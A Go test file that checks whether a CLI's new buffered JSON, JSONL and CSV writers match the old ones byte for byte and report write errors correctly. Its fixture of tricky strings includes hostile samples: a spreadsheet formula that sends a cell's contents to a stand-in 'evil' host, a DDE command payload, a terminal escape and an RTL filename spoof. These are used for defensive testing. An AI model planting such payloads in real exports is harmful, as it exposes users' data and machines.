package output

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/custos-dev/custos/internal/iostreams"
)

// The writers as they were before the fast path and the 64 KB buffer:
// every value through marshal(jsonValue(v)), one write per row. The new
// writers must produce the same bytes.

func oldAppendObject(b []byte, cols []Column, values []any) ([]byte, error) {
	if len(values) != len(cols) {
		return nil, fmt.Errorf("output: %d values for %d columns", len(values), len(cols))
	}
	b = append(b, '{')
	for i, c := range cols {
		if i > 0 {
			b = append(b, ',')
		}
		b = strconv.AppendQuote(b, c.Name)
		b = append(b, ':')
		v, err := marshal(jsonValue(values[i]))
		if err != nil {
			return nil, err
		}
		b = append(b, v...)
	}
	return append(b, '}'), nil
}

type oldJSONList struct {
	w    io.Writer
	cols []Column
	n    int
}

func (j *oldJSONList) Row(values ...any) error {
	var buf []byte
	if j.n == 0 {
		buf = append(buf, "[\n  "...)
	} else {
		buf = append(buf, ",\n  "...)
	}
	buf, err := oldAppendObject(buf, j.cols, values)
	if err != nil {
		return err
	}
	j.n++
	_, err = j.w.Write(buf)
	return err
}

func (j *oldJSONList) Close() error {
	if j.n == 0 {
		_, err := io.WriteString(j.w, "[]\n")
		return err
	}
	_, err := io.WriteString(j.w, "\n]\n")
	return err
}

type oldJSONLines struct {
	w    io.Writer
	cols []Column
}

func (j *oldJSONLines) Row(values ...any) error {
	buf, err := oldAppendObject(nil, j.cols, values)
	if err != nil {
		return err
	}
	_, err = j.w.Write(append(buf, '\n'))
	return err
}

func (j *oldJSONLines) Close() error { return nil }

type oldCSV struct {
	w      *csv.Writer
	out    io.Writer
	bom    bool
	cols   []Column
	header bool
}

func (c *oldCSV) Row(values ...any) error {
	if len(values) != len(c.cols) {
		return fmt.Errorf("output: %d values for %d columns", len(values), len(c.cols))
	}
	if err := c.writeHeader(); err != nil {
		return err
	}
	rec := make([]string, len(values))
	for i, v := range values {
		rec[i] = NeutraliseCell(Text(v))
	}
	return c.w.Write(rec)
}

func (c *oldCSV) writeHeader() error {
	if c.header {
		return nil
	}
	c.header = true
	if c.bom {
		if _, err := io.WriteString(c.out, "\ufeff"); err != nil {
			return err
		}
	}
	rec := make([]string, len(c.cols))
	for i, col := range c.cols {
		rec[i] = col.Name
	}
	return c.w.Write(rec)
}

func (c *oldCSV) Close() error {
	if err := c.writeHeader(); err != nil {
		return err
	}
	c.w.Flush()
	return c.w.Error()
}

func oldList(ios *iostreams.IOStreams, f Format, cols []Column) RowWriter {
	switch f {
	case JSON:
		return &oldJSONList{w: ios.Out, cols: cols}
	case JSONL:
		return &oldJSONLines{w: ios.Out, cols: cols}
	case CSV:
		return &oldCSV{w: csv.NewWriter(ios.Out), out: ios.Out, bom: ios.CSVBOM(), cols: cols}
	}
	panic(f)
}

type state string

type stringer struct{ s string }

func (s stringer) String() string { return s.s }

// trickyStrings are the stored strings most likely to be escaped wrongly.
var trickyStrings = []string{
	"", "alice", "Zoë", "张三", "<b>&amp;</b>", `quote"back\slash`, `DOMAIN\user`,
	"a\nb\tc\rd", "\x00\x01\x07\x08\x0b\x0c\x1b\x1f", "\x1b]0;pwned\a", "del\x7f",
	"c1\u0080\u009b\u009f", "soft\u00adhyphen", "zw\u200bsp\u200cnj\u200dj\u2060wj",
	"rtl\u202egnp.exe", "iso\u2066x\u2069", "bom\ufeff", "tag\U000E0041\U000E007F",
	"ls\u2028ps\u2029", "bad\xffutf8", "cut\xc3", "sur\xed\xa0\x80", "\xf4\x90\x80\x80",
	"repl\ufffd", "emoji😀", "family👨‍👩‍👧", "flag🇫🇷", "nbsp\u00a0", "\u3000ideo",
	"=HYPERLINK(\"http://evil/?\"&A1)", "+cmd|' /C calc'!A0", "-5", "@SUM(A1)",
	"\tx", "\rx", "'=stored", "''@x", "'tis", "a,b", "a;b", "line\nbreak", " padded ",
	strings.Repeat("x", 5000), strings.Repeat("é\u202e", 300),
}

func trickyValues() []any {
	at := time.Date(2026, 11, 23, 9, 30, 0, 123, time.UTC)
	paris := time.Date(2026, 11, 23, 10, 30, 0, 0, time.FixedZone("CET", 3600))
	var zero time.Time
	s := "pointed\x1b"
	vs := []any{
		nil, (*string)(nil), &s, 0, -5, 1 << 62, int64(-1 << 63), int32(7), uint(3), uint64(1 << 63),
		int8(-3), uint16(9), 1.5, true, false,
		at, paris, zero, &at, &zero, (*time.Time)(nil),
		[]string(nil), []string{}, []string{"admin", "=it", "\x1b", "😀", "\u2028"},
		json.RawMessage(`{"a":1}`), state("active"), state("x\u202e"), stringer{"s\x1b"},
		map[string]int{"a": 1}, Pairs("k", "v\x7f", "at", at),
	}
	for _, t := range trickyStrings {
		vs = append(vs, t)
	}
	return vs
}

// Every tricky value, in every column position, gives the same bytes
// through the old writers and the new ones, across buffer boundaries.
func TestListsMatchTheWritersBeforeTheFastPath(t *testing.T) {
	vals := trickyValues()
	cols := Cols("a", "b", "c")
	var rows [][]any
	for round := 0; round < 40; round++ {
		for i := range vals {
			rows = append(rows, []any{vals[i], vals[(i+round+1)%len(vals)], vals[(i*7+round)%len(vals)]})
		}
	}
	for _, f := range []Format{JSON, JSONL, CSV} {
		for _, bom := range []bool{false, true} {
			render := func(list func(*iostreams.IOStreams, Format, []Column) RowWriter, rows [][]any) string {
				ios, _, out, _ := iostreams.Test()
				ios.SetCSVBOM(bom)
				w := list(ios, f, cols)
				for _, r := range rows {
					if err := w.Row(r...); err != nil {
						t.Fatal(err)
					}
				}
				if err := w.Close(); err != nil {
					t.Fatal(err)
				}
				return out.String()
			}
			for _, rs := range [][][]any{nil, rows[:1], rows} {
				want, got := render(oldList, rs), render(NewList, rs)
				if got != want {
					i := 0
					for i < len(got) && i < len(want) && got[i] == want[i] {
						i++
					}
					t.Fatalf("%s (bom %v, %d rows): differs at byte %d of %d:\ngot  %q\nwant %q",
						f, bom, len(rs), i, len(want), excerpt(got, i), excerpt(want, i))
				}
				if len(rs) == len(rows) && len(want) < 4*bufferSize {
					t.Fatalf("%s: %d bytes do not cross several buffers", f, len(want))
				}
			}
		}
	}
}

func excerpt(s string, i int) string {
	lo, hi := max(0, i-40), min(len(s), i+40)
	return s[lo:hi]
}

func TestAppendValueMatchesMarshal(t *testing.T) {
	for _, v := range trickyValues() {
		want, werr := marshal(jsonValue(v))
		got, gerr := appendValue([]byte("prefix"), v)
		if (werr != nil) != (gerr != nil) || string(got) != "prefix"+string(want) {
			t.Errorf("%#v: got %q (%v), want %q (%v)", v, got, gerr, want, werr)
		}
	}
	if _, err := appendValue(nil, func() {}); err == nil {
		t.Error("a func encoded without error")
	}
}

func FuzzAppendStringMatchesMarshal(f *testing.F) {
	for _, s := range trickyStrings {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		want, err := marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		got, err := appendString(nil, s)
		if err != nil || string(got) != string(want) {
			t.Fatalf("%q: got %q (%v), want %q", s, got, err, want)
		}
	})
}

// countingWriter records each write and fails from the nth on.
type countingWriter struct {
	bytes.Buffer
	writes int
	failAt int
	err    error
}

func (c *countingWriter) Write(p []byte) (int, error) {
	c.writes++
	if c.failAt > 0 && c.writes >= c.failAt {
		return 0, c.err
	}
	return c.Buffer.Write(p)
}

func TestListsWriteInLargeBlocks(t *testing.T) {
	for _, f := range []Format{JSON, JSONL, CSV} {
		ios, _, _, _ := iostreams.Test()
		cw := &countingWriter{}
		ios.Out = cw
		w := NewList(ios, f, Cols("name", "n"))
		for i := 0; i < 20000; i++ {
			if err := w.Row("someone", i); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		if most := cw.Len()/bufferSize + 2; cw.writes > most {
			t.Errorf("%s: %d writes for %d bytes, want at most %d", f, cw.writes, cw.Len(), most)
		}
	}
}

// A failed write, EPIPE when the reader has gone, still reaches the
// caller as itself: from a Row once the buffer fills, else from Close.
func TestListsReportWriteErrors(t *testing.T) {
	epipe := &fsError{syscall.EPIPE}
	for _, f := range []Format{JSON, JSONL, CSV} {
		for _, rows := range []int{1, 20000} {
			ios, _, _, _ := iostreams.Test()
			ios.Out = &countingWriter{failAt: 1, err: epipe}
			w := NewList(ios, f, Cols("name"))
			var err error
			for i := 0; i < rows && err == nil; i++ {
				err = w.Row("someone")
			}
			if err == nil {
				err = w.Close()
			} else if cerr := w.Close(); !errors.Is(cerr, syscall.EPIPE) {
				t.Errorf("%s: Close after a failed Row: %v", f, cerr)
			}
			if !errors.Is(err, syscall.EPIPE) {
				t.Errorf("%s, %d rows: got %v, want EPIPE", f, rows, err)
			}
		}
	}
}

type fsError struct{ errno syscall.Errno }

func (e *fsError) Error() string { return "write /dev/stdout: " + e.errno.Error() }
func (e *fsError) Unwrap() error { return e.errno }

// A row the writer refuses leaves the rows before it written, as the
// unbuffered writers did.
func TestRowErrorKeepsEarlierRows(t *testing.T) {
	for _, f := range []Format{JSON, JSONL, CSV} {
		ios, _, out, _ := iostreams.Test()
		w := NewList(ios, f, Cols("name"))
		if err := w.Row("first"); err != nil {
			t.Fatal(err)
		}
		if err := w.Row("a", "b"); err == nil {
			t.Fatalf("%s: a long row accepted", f)
		}
		if !strings.Contains(out.String(), "first") {
			t.Errorf("%s: the row before the error was lost: %q", f, out.String())
		}
	}
}

// A command that fails part-way through a listing returns without closing
// it; the rows it wrote still reach stdout when Main flushes the streams.
func TestRowsOfAFailedListingReachStdout(t *testing.T) {
	for _, f := range []Format{JSON, JSONL, CSV} {
		ios, _, out, _ := iostreams.Test()
		w := NewList(ios, f, Cols("name"))
		if err := w.Row("ana"); err != nil {
			t.Fatal(err)
		}
		if out.Len() != 0 {
			t.Fatalf("%v: written before the buffer filled", f)
		}
		ios.Flush()
		if !strings.Contains(out.String(), "ana") {
			t.Errorf("%v: after Flush stdout holds %q", f, out.String())
		}
	}
}
